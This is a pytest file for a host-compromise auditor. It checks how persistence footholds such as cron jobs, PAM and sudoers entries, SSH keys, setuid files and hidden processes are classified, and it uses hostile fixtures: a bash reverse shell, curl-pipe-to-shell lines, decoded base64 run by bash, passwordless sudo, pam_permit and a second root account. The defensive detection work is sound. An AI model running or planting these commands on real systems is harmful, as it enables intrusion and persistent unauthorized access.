"""What the places outside the web roots come to, and what a host says of them that no module of ours has said."""

from __future__ import annotations

import base64
import hashlib
import json
import time
import zlib
from typing import Any, get_args

import pytest

from auditor.compromise import autoruns, persistence, suspicious_commands
from auditor.compromise.autoruns import Autorun, Slot
from auditor.compromise.file_listing import ListingError
from auditor.models import Trace
from auditor.models.hunts import KINDS, OUTSIDE
from auditor.models.reviews import MAX_RULES
from auditor.scans.dedup import merge_traces_by_key
from auditor.scans.traces import compute_trace_key

SHM, TMP = "/dev/shm/x", "/tmp/x"  # noqa: S108 - never opened


def place(slot: Slot, said: str = "", *marks: str, **changes: Any) -> Autorun:
    told = {"slot": slot, "where": "/etc/x", "who": "root", "package_status": "foreign", "text": said}
    return Autorun(**{**told, "marks": frozenset(marks), "programs": (), **changes})


def told(one: Autorun, before: tuple[str, ...] | None = None) -> tuple[str, str, tuple[str, ...]] | None:
    found = persistence.find_traces_in_autoruns([one], before)
    return (found[0].kind, found[0].certainty, found[0].rules) if found else None


@pytest.mark.parametrize(
    "one, sure, rule",
    [
        (place("cron", "* bash -i >& /dev/tcp/192.0.2.9/443 0>&1"), "exact", "connects_back"),
        (place("cron", "echo aGk= | base64 -d | bash"), "exact", "runs_decoded"),
        (place("unit", "curl -s http://192.0.2.9/x | sh"), "strong", "runs_fetched"),
        (place("start", "export LD_PRELOAD=/usr/lib/x.so", package_status="packaged"), "strong", "preloads"),
        (place("hook", 'RUN+="/dev/shm/x"', programs=((SHM, "foreign"),)), "strong", "runs_temporary"),
        (place("cron", "/usr/share/.x/y", programs=(("/usr/share/.x/y", "foreign"),)), "strong", "runs_hidden"),
        (place("cron", "/opt/app/run"), "weak", "foreign"),
        (place("generator", "#!/bin/sh"), "strong", "foreign"),
        (place("account", "0 /bin/bash", "second_root", "root", "shell"), "exact", "second_root"),
        (place("account", "33 /bin/bash", "service", "shell", "password"), "strong", "service_logs_in"),
        (place("key", "ssh-ed25519 SHA256:x", "service"), "strong", "key_of_service"),
        (place("key", "ssh-ed25519 SHA256:x", "root"), "weak", "key"),
        (place("sudo", "www-data ALL=(ALL) NOPASSWD: ALL", "service", who="www-data"), "strong", "service_may"),
        (place("sshd", "authorizedkeysfile /dev/shm/k", package_status="packaged"), "strong", "keys_elsewhere"),
        (place("pam", "auth sufficient pam_permit.so", "opens"), "exact", "login_lets_all"),
        (place("order", "POST", where="/var/www/a/uploads/x.php"), "weak", "posted_to"),
        (place("order", "POST", "unexplained", where="/var/www/a/uploads/x.php"), "strong", "posted_to"),
        (place("order", "POST", package_status="gone", where="/uploads/x.php"), "weak", "posted_to_gone"),
        (place("log", "2", "blanked", where="/var/log/wtmp"), "weak", "blanked"),
        (place("process", "php", "calls_out", where="/usr/bin/php8.4", package_status="packaged"), "weak", "calls_out"),
        (place("pam_module", ""), "strong", "foreign"),
        (place("preload", "/usr/lib/x.so"), "exact", "preloaded"),
        (place("preload", "/usr/lib/x.so", package_status="packaged"), "weak", "preloaded"),
        (place("php", "auto_prepend_file=/tmp/x", programs=((TMP, "foreign"),)), "strong", "prepends_odd"),
        (place("php_module", "extension=/usr/local/x.so"), "strong", "foreign"),
        (place("database", "x.so", "function"), "strong", "foreign_function"),
        (
            place("database", "SELECT 1 INTO OUTFILE '/srv/x.php'", "event", package_status="packaged"),
            "strong",
            "writes_from_sql",
        ),
        (place("setuid", "0o4755", "setuid", where="/usr/bin/x"), "strong", "foreign"),
        (place("setuid", "0o4755", "setuid", where="/opt/app/sandbox"), "weak", "foreign"),
        (place("setuid", "0o4755", "setuid", "other_system", where="/srv/root/usr/bin/su"), "weak", "foreign"),
        (place("setuid", "0o4755", "setuid", "shell", where="/opt/app/x"), "exact", "shell_of_root"),
        (
            place("setuid", "", "capabilities", where="/usr/bin/python3.13", package_status="packaged"),
            "strong",
            "interpreter_of_root",
        ),
        (place("program", package_status="changed"), "strong", "changed"),
        (place("process", "", "memory", where="/memfd:x", package_status="gone"), "strong", "from_memory"),
        (place("process", "[kworker/0:1]", "as_kernel", where="/opt/x"), "exact", "poses_as_kernel"),
        (place("process", "x", "disguised", where="/usr/bin/env"), "strong", "disguised"),
        (place("process", "", where=SHM), "strong", "from_temporary"),
        (place("process", "", where="/opt/app/x"), "weak", "foreign"),
        (
            place("process", "", "shell_on_socket", where="/usr/bin/bash", package_status="packaged"),
            "exact",
            "shell_on_socket",
        ),
        (place("listener", "tcp *:4444"), "weak", "foreign"),
        (place("listener", "tcp *:1", "interpreter", package_status="packaged"), "weak", "interpreter_listens"),
        (
            place("listener", "tcp *:1", "interpreter", "inline", package_status="packaged"),
            "strong",
            "interpreter_listens",
        ),
        (place("process", "", "web_account", package_status="packaged"), "strong", "shell_of_web"),
        (place("process", "", "web_account", "command", package_status="packaged"), "weak", "shell_of_web"),
        (place("listener", "packets", "packets"), "strong", "reads_packets"),
        (place("kernel_module", "", "loaded"), "strong", "loaded"),
        (place("kernel_module", "", "loaded", "dkms"), "weak", "loaded"),
        (place("kernel_module", "", "loaded", package_status="changed"), "strong", "changed"),
        (place("kernel_module", "", "loaded", "other_than_file"), "strong", "other_than_file"),
        (place("kernel_module", "", "loaded", "hidden", package_status="gone"), "exact", "hidden_module"),
        (place("temporary", "", "elf", "executable", "hidden"), "strong", "hidden_program"),
        (place("temporary", "", "script", "executable"), "weak", "program"),
    ],
)
def test_each_foothold_is_told_for_what_it_is(one: Autorun, sure: str, rule: str) -> None:
    found = told(one)
    assert found is not None
    assert (found[0], found[1]) == (KINDS[one.slot], sure)
    assert rule in found[2]


@pytest.mark.parametrize(
    "one",
    [
        place("start", "alias sudo='sudo '\nexport EDITOR=vim", package_status="packaged"),
        place("cron", "cd / && run-parts --report /etc/cron.hourly", package_status="changed"),
        place("account", "33 /usr/sbin/nologin", "service", package_status="packaged"),
        place("account", "1000 /bin/bash", "shell", "password", "root", package_status="packaged"),
        place("account", "1001 /bin/bash", "shell", "no_password", package_status="packaged"),
        place("sshd", "authorizedkeysfile .ssh/authorized_keys /etc/ssh/keys/%u", package_status="packaged"),
        place("hook", "net.ipv4.ip_forward = 0", "settings"),
        place("database", "UPDATE counters SET n = n + 1", "event", package_status="packaged"),
        place("hook", 'DPkg::Post-Invoke { "curl -s http://x/y > /var/log/y"; };', package_status="packaged"),
    ],
)
def test_what_administrators_write_is_no_trace(one: Autorun) -> None:
    assert told(one) is None


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsS https://example.test/ping > /dev/null",
        "mysqldump --all-databases | gzip > /var/backups/db.gz",
        "find /var/www -name '*.tmp' -delete; chmod 0755 /srv/x",
        "tar cz /etc | base64 > /root/etc.b64",
        "python3 -m http.server",
        "su -c 'php /var/www/site/cron.php' www-data",
    ],
)
def test_what_jobs_do_everywhere_is_no_sign(line: str) -> None:
    assert list(suspicious_commands.find_signs_in_command_text(line)) == []


@pytest.mark.parametrize(
    "line",
    [
        "mysqldump -u root -pS3cretPw db | gzip; exit; curl http://192.0.2.9/x | sh",
        "PGPASSWORD=S3cretPw curl -u admin:S3cretPw https://192.0.2.9/y | bash",
        "curl -H 'Authorization: Bearer S3cretPwS3cretPw' http://u:S3cretPw@192.0.2.9/ | sh",
        "/opt/x --token=S3cretPwS3cretPw0123",
    ],
)
def test_no_part_of_a_secret_is_shown(line: str) -> None:
    (trace,) = persistence.find_traces_in_autoruns([place("cron", line)])
    assert "S3cret" not in trace.sample
    assert "Pw" not in trace.sample.replace("PGPASSWORD", "")


def test_a_text_made_to_hurt_costs_no_more_than_its_length() -> None:
    began = time.process_time()
    for piece in ("curl ", "base64 |", "socket ", "sh $(", "/a", "eval ", "nc -", "export LD_PRELOAD ", "alias "):
        list(suspicious_commands.find_signs_in_command_text(piece * (20_000 // len(piece))))
        list(suspicious_commands.find_signs_in_command_text("\n".join([piece * 50] * 60)))
        suspicious_commands.classify_odd_path(piece * 200)
    for piece in ("base64 ", "curl && "):
        list(suspicious_commands.find_signs_in_command_text("\n".join([piece * 600] * 40)))
    assert time.process_time() - began < 5


def test_a_key_of_root_that_was_not_there_before_is_an_alarm_and_any_other_news_is_marked() -> None:
    key, job = place("key", "ssh-ed25519 SHA256:x from=*", "root"), place("cron", "/opt/app/run")
    assert told(key, ()) == ("key", "strong", ("key", "new"))
    assert told(job, ()) == ("job", "weak", ("foreign", "new"))
    news = place("cms_account", who="a", where="/srv/www"), place("cms_account", "", "read", who="", where="/srv/www")
    assert told(news[0], persistence.collect_trace_keys_of_autoruns(news[1:])) == (
        "account",
        "strong",
        ("administrator", "new"),
    )
    assert told(news[0], persistence.collect_trace_keys_of_autoruns(news)) == ("account", "weak", ("administrator",))
    assert told(news[0], ()) == ("account", "weak", ("administrator", "new"))
    assert told(news[1], ()) is None
    (trace,) = persistence.find_traces_in_autoruns([key])
    assert told(key, (trace.key,)) == ("key", "weak", ("key",))
    assert trace.key == compute_trace_key("key", "key\n/etc/x\nroot\nssh-ed25519 SHA256:x")


def test_an_administrator_of_days_is_an_alarm_beside_another_and_stays_one_until_accepted() -> None:
    tables = place("cms_account", "", "read", who="", where="/srv/www")
    made = place("cms_account", "", "of_days", who="a", where="/srv/www")
    (weak,) = persistence.find_traces_in_autoruns([tables, made])
    assert (weak.certainty, weak.rules) == ("weak", ("administrator", "administrator_of_days"))

    def beside(where: str) -> Trace:
        (alarm,) = persistence.find_traces_in_autoruns([place("setuid", "", "shell", where=where)])
        assert alarm.certainty == "exact"
        (told,) = persistence.escalate_new_administrators([weak], [alarm])
        return told

    assert beside("/srv/www2/x").certainty == "weak"
    alarming = beside("/srv/www/x")
    assert alarming.certainty == "strong"
    before = tuple(persistence.select_keys_known_to_next_hunt([tables, made], [alarming]))
    assert told(place("cms_account", who="a", where="/srv/www"), before) == (
        "account",
        "strong",
        ("administrator", "new"),
    )


def test_a_key_that_an_administrator_has_too_is_not_told_as_what_is_to_be_refused() -> None:
    """Whoever may write a service's folder may lay any public key there."""
    planted = place("key", "ssh-ed25519 SHA256:x", "service", where="/var/www/.ssh/authorized_keys", exactly="SHA256:x")
    (alone,) = persistence.find_traces_in_autoruns([planted])
    assert (alone.certainty, alone.exactly) == ("strong", "SHA256:x")
    theirs = place("key", "ssh-ed25519 SHA256:x", "root", exactly="SHA256:x")
    assert [(one.certainty, one.exactly) for one in persistence.find_traces_in_autoruns([planted, theirs])] == [
        ("strong", ""),
        ("weak", ""),
    ]


def test_what_tells_it_from_all_else_is_told_of_all_that_are_one_trace_or_not_at_all() -> None:
    def told_of(*exactly: str) -> str:
        there = [place("process", "x", "deleted", where=TMP, package_status="gone", exactly=one) for one in exactly]
        return merge_traces_by_key(persistence.find_traces_in_autoruns(there))[0].exactly

    assert told_of("7", "9", "7") == "7 9"
    assert told_of("7", "") == told_of("", "7") == told_of("7\n") == told_of(*map(str, range(90))) == ""


def test_where_something_lies_is_written_so_that_it_can_be_acted_on() -> None:
    one = place("temporary", "", "elf", where="/var/a\n\udcff0912345678.x", who="\ud800")
    assert persistence.find_traces_in_autoruns([one])[0].where == "/var/a%0A%FF0912345678.x (?)"


def test_a_new_key_of_root_is_news_until_it_is_accepted_or_gone() -> None:
    before: frozenset[str] = frozenset()
    there = [place("key", "ssh-ed25519 SHA256:x", "root"), place("cron", "/opt/app/run")]
    for _ in range(3):
        traces = persistence.find_traces_in_autoruns(there, before)
        assert [(one.kind, one.certainty) for one in traces] == [("key", "strong"), ("job", "weak")]
        before = persistence.select_keys_known_to_next_hunt(there, traces)
    assert before == persistence.collect_trace_keys_of_autoruns(there[1:])
    first = persistence.find_traces_in_autoruns(there, None)
    assert persistence.select_keys_known_to_next_hunt(there, first) == persistence.collect_trace_keys_of_autoruns(there)


def test_what_a_process_calls_itself_makes_no_other_trace_of_it() -> None:
    first, second = (place("process", title, "mapped", where="/usr/sbin/sshd") for title in ("sshd: a", "sshd: b"))
    assert persistence.collect_trace_keys_of_autoruns([first]) == persistence.collect_trace_keys_of_autoruns([second])


def test_every_slot_has_a_kind_that_controls_ask_for() -> None:
    assert set(KINDS) == set(get_args(Slot))
    assert {kind for slot, kind in KINDS.items() if slot != "order"} == OUTSIDE
    assert KINDS["order"] == "program"  # what is posted to lies below a web root


def row(**changes: Any) -> list[Any]:
    told = {"slot": "cron", "where": "/etc/x", "who": "root", "standing": "foreign", "said": "x", "marks": []}
    return list({**told, "programs": [["/opt/x", "foreign"]], "exactly": "", **changes}.values())


def said(**changes: Any) -> str:
    told = {"rows": [row()], "seen": 1, "cut_short": [], "seconds": 1.0, "processor": 0.5, "sound": "", **changes}
    return deflated(json.dumps(told).encode("ascii"))


def deflated(told: bytes) -> str:
    return base64.b64encode(zlib.compress(told, 1)).decode()


@pytest.mark.parametrize(
    "text",
    [
        None,
        "????",
        said(rows=[row(slot="x")]),
        said(rows=[row(where="ă")]),
        said(rows=[row(package_status="fine")]),
        said(rows=[row(said="x" * 30_000)]),
        said(rows=[row(marks=["A"])]),
        said(rows=[row(programs=[["/x"]])]),
        said(rows=[row()[:4]]),
        said(seen=-1),
        said(cut_short=["x y"]),
        said(rows=7),
        said(processor=float("nan")),
        said(sound="{{ x }}"),
        said(sound="A" * 300_000),
        said(seconds=float("inf")),
        said(seconds=-1.0),
        said(rows=[row(said="x" * 20_000)] * 151),
        said(rows=[[[]]] * 2_000_000),
        deflated(b"[" * 200_000 + b"]" * 200_000),
    ],
    ids=lambda text: str(text)[:12],
)
def test_a_host_that_answers_with_nonsense_is_not_believed(text: object) -> None:
    with pytest.raises(ListingError):
        autoruns.parse_autoruns(text)


def test_places_are_taken_in_as_they_were_said() -> None:
    found = autoruns.parse_autoruns(
        said(rows=[row(where="/etc/a\n\xff", marks=["setuid"])], cut_short=["files", "files"])
    )
    assert found.all[0].where == "/etc/a\n\udcff"
    assert found.all[0].marks == {"setuid"}
    assert found.cut_short == ("files",)
    (trace,) = persistence.find_traces_in_autoruns(found.all)
    assert "\n" not in trace.where


def digests(*lines: str) -> str:
    return " ".join(hashlib.sha256(line.encode()).hexdigest()[:12] for line in lines)


@pytest.mark.parametrize(
    ("one", "lines"),
    [
        (place("pam", "auth optional pam_exec.so expose_authtok /opt/x", "passwords"), 1),
        (place("sudo", "www-data ALL=(ALL) NOPASSWD: ALL", "service"), 1),
        (place("web_module", "load_module /opt/x.so;"), 1),
        (place("web_module", ""), 0),
        (place("php", "auto_prepend_file = /tmp/x", programs=((TMP, "foreign"),)), 1),
        (place("cron", "curl https://x.example | sh"), 0),
    ],
)
def test_a_line_of_settings_is_told_by_its_digest(one: Autorun, lines: int) -> None:
    (found,) = persistence.find_traces_in_autoruns([one])
    assert found.exactly == (digests(one.text) if lines else "")


def test_of_a_script_the_lines_are_told_that_say_something() -> None:
    bad = "curl https://x.example | sh", f"{SHM} --daemon"
    one = place(
        "start", "\n".join(["alias x=y", *bad, "umask 022"]), programs=((SHM, "foreign"), ("/opt/y", "foreign"))
    )
    (found,) = persistence.find_traces_in_autoruns([one])
    assert found.exactly == digests(*bad)


def test_more_lines_than_a_trace_has_room_for_are_told_by_none() -> None:
    one = place("hook", "\n".join(f"curl https://x.example/{n} | sh" for n in range(5)))
    (found,) = persistence.find_traces_in_autoruns([one])
    assert found.exactly == ""


def test_however_many_rules_there_are_it_is_told_how_the_thing_stands_to_packages() -> None:
    said = "curl https://x.example | sh; chmod 4755 /x; useradd -o -u 0 x; echo x >> authorized_keys; LD_PRELOAD=/x y"
    (found,) = persistence.find_traces_in_autoruns([place("unit", said, "replaces")])
    assert len(found.rules) == MAX_RULES
    assert {"foreign", "replaces_unit"} < set(found.rules)


def test_what_a_package_brought_and_somebody_changed_is_told_so_beside_what_it_says() -> None:
    (found,) = persistence.find_traces_in_autoruns(
        [place("start", "curl https://x.example | sh", package_status="changed")]
    )
    assert found.rules == ("runs_fetched", "changed")
    assert persistence.find_traces_in_autoruns([place("start", "umask 022", package_status="changed")]) == ()


def test_a_pool_that_is_called_www_prepends_no_less() -> None:
    one = place("php", "x", where="/etc/php/8.4/fpm/pool.d/www.conf", programs=((TMP, "foreign"),))
    assert told(one) == ("interpreter", "strong", ("prepended", "prepends_odd"))


@pytest.mark.parametrize(
    ("slot", "path", "who"),
    [
        ("generator", "/usr/local/lib/systemd/system-generators/fstab-generator (x)", "root"),
        ("setuid", "/usr/bin/sudo (root)", "root"),
        ("start", "/etc/profile.d/ssh.sh (a)", "root"),
        ("preload", "/etc/ld.so.preload (x)", ""),
    ],
)
def test_a_name_that_ends_as_if_it_said_whose_it_is_is_no_other_s(slot: Slot, path: str, who: str) -> None:
    one = place(slot, "curl http://x.example | sh", "setuid", where=path, who=who, package_status="foreign")
    (trace,) = persistence.find_traces_in_autoruns([one])
    assert persistence.get_path_in_trace_location(trace.kind, trace.where) == path
    assert persistence.get_account_in_trace_location(trace.kind, trace.where) == who


@pytest.mark.parametrize(
    ("status", "marks", "rules"),
    [
        ("changed", ("python",), ["changed"]),
        ("foreign", ("python",), ["foreign"]),
        ("changed", ("python", "settings"), None),
        ("foreign", ("python", "settings"), None),
        ("packaged", ("python",), None),
        ("changed", (), None),
    ],
)
def test_what_each_start_of_python_runs_is_a_sign_when_its_package_did_not_write_it(
    status: autoruns.PackageStatus, marks: tuple[str, ...], rules: list[str] | None
) -> None:
    found = told(place("hook", "import apport_python_hook", *marks, package_status=status))
    assert found == (("hook", "weak", tuple(rules)) if rules else None)
